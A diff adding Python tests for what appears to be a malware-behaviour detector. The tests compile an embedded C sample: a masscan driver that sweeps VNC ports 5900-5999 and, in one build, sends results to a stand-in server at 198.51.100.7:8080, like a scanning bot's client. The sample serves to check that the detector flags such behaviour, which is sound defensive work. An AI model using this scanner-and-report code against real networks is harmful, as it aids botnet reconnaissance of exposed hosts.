@@ -254,3 +254,64 @@ def test_packet_capture_is_a_fact_ordinary_for_network_tools(tmp_path: Path) -> 
     assert raw["severity"] == "info"
     assert raw["evidence"]["imports"] == ["pcap_loop", "pcap_open_live"]
     assert capabilities_of(library, "tcpdump")["network-raw"]["expected_for"] == "network-tool"
+
+
+# A scanning bot's client: masscan over a range on the VNC ports, the hosts found posted back to
+# its server. The honest shape writes them to a local file for the person who ran it.
+SCANNER = r"""
+#include <arpa/inet.h>
+#include <spawn.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <sys/wait.h>
+#include <unistd.h>
+extern char **environ;
+
+static void report(const char *found) {
+#ifdef REPORT
+    struct sockaddr_in server = {0};
+    server.sin_family = AF_INET;
+    server.sin_port = htons(8080);
+    inet_pton(AF_INET, "198.51.100.7", &server.sin_addr);
+    int s = socket(AF_INET, SOCK_STREAM, 0);
+    if (connect(s, (struct sockaddr *)&server, sizeof server) == 0)
+        send(s, found, strlen(found), 0);
+    close(s);
+#else
+    FILE *out = fopen("found.txt", "a");
+    if (out) { fputs(found, out); fclose(out); }
+#endif
+}
+
+int main(int argc, char **argv) {
+    if (argc < 2) return 1;
+    char *args[] = {"masscan", argv[1], "-p5900-5999", "--open-only", "--rate", "10000",
+                    "-oL", "found.txt", NULL};
+    pid_t pid;
+    printf("Running masscan with args %s\n", argv[1]);
+    if (posix_spawnp(&pid, "masscan", NULL, NULL, args, environ) != 0) return 1;
+    waitpid(pid, NULL, 0);
+    report(argv[1]);
+    return 0;
+}
+"""
+
+
+def test_a_mass_scanner_driver_that_reports_to_a_server_is_a_scanning_bot(tmp_path: Path) -> None:
+    found = findings_of(compile_c(tmp_path, "client", ["-O0", "-DREPORT"], SCANNER))
+    assert raised_by(found, "behavior-scanner-bot") == ["network-client", "network-scanner"]
+    scanner = finding(found, "capability.network-scanner")
+    assert scanner.severity is Severity.MEDIUM
+    assert scanner.evidence.details["strings"] == ["--open-only", "--rate", "masscan"]
+
+
+def test_a_scanner_front_end_without_a_server_stays_below_the_gate(tmp_path: Path) -> None:
+    program = compile_c(tmp_path, "scan-local", ["-O0"], SCANNER)
+    found = findings_of(program)
+    assert not behaviours(found)
+    assert finding(found, "capability.network-scanner").severity is Severity.MEDIUM
+    # the scanner's own package names it a network tool: ordinary there, even when it reports
+    client = compile_c(tmp_path, "client", ["-O0", "-DREPORT"], SCANNER)
+    assert not behaviours(findings_of(client, "masscan"))
+    assert capabilities_of(client, "masscan")["network-scanner"]["expected_for"] == "network-tool"
